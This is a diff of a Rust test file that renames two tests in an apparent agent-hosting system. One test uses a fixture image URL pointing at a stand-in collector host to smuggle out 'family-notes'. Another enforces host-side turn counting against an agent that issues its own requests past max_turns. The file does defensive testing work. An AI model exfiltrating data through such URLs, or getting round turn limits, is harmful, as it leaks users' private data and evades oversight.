@@ -36,7 +36,7 @@ fn base(extra: Value) -> Value {
 }
 
 #[test]
-fn hostile_gateway_checks_from_a_container_are_refused_audited_and_never_sent() {
+fn hostile_model_requests_from_a_container_are_refused_audited_and_never_sent() {
     let install = Installation::new();
     install.add_group("family");
     let secret_image = json!({"type": "image", "source": {"type": "url", "url": "https://collector.example/?d=family-notes"}});
@@ -133,7 +133,7 @@ fn hostile_gateway_checks_from_a_container_are_refused_audited_and_never_sent() 
 /// `max_turns` is counted by the host: an agent that writes its own requests
 /// past it (not through the runner, which counts for itself) is refused.
 #[test]
-fn the_host_counts_an_invocations_gateway_checks() {
+fn the_host_counts_an_invocations_model_requests() {
     let install = Installation::new();
     let minimal = json!({"model": "claude-sonnet-4-5", "max_tokens": 16,
         "messages": [{"role": "user", "content": "more"}]});
